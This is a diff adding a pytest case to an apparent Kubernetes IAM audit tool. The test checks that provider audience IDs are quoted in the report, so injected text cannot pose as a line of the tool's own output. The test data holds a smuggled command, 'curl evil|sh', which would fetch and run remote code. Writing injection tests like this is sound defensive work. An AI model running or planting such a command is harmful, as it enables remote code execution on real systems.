@@ -300,3 +300,13 @@ def test_a_cluster_whose_kubeconfig_is_a_secret(iam: Any, kubernetes: Cluster) -
     report = looked({"bindings": {"app": APP}}, {"kubernetes:kubeconfig": SECRET})
 
     assert report == LiveReport([], [], ["the cluster of irsa:cluster: its kubeconfig is a secret"], False)
+
+
+def test_the_audiences_that_a_provider_lists_are_quoted(
+    iam: Any, kubernetes: Cluster, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The attack: a client ID, which is any text, passes for a line of ours."""
+    monkeypatch.setattr(f"{OF_IAM}client_ids", lambda *_: ["sts.amazonaws.com", "a  do: curl evil|sh"])
+    report = looked({"bindings": {"app": {**APP, "audience": "theirs"}}})
+    (found,) = [each.mistake.found for each in report.mistakes if each.rule == "audience-missing"]
+    assert found.endswith('it lists: sts.amazonaws.com, "a  do: curl evil|sh"')
